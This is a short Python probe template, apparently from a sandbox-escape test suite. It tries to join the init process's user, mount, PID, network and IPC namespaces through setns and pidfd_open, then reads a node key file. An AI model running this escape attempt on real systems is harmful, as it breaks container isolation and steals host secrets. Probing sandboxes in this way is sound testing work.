# family: namespaces
# kind: value
# tries: setns into the namespaces of init and of the node
# success looks like: the key
def job(plugin):
  @LIBC@
  answers = []
  for pid in (1, 2, 3, os.getppid()):
    for kind in ('user', 'mnt', 'pid', 'net', 'ipc'):
      try:
        answers.append(libc.setns(os.open('/proc/%d/ns/%s' % (pid, kind), 0), 0))
      except OSError as error:
        answers.append(error.errno)
    handle = libc.syscall(c.c_long(434), c.c_long(pid), c.c_long(0))
    answers.append(libc.setns(handle, 0x20000 | 0x40000000))
  try:
    answers.append(os.read(os.open('@NODE_KEY@', 0), 4000))
  except OSError as error:
    answers.append(str(error))
  return answers
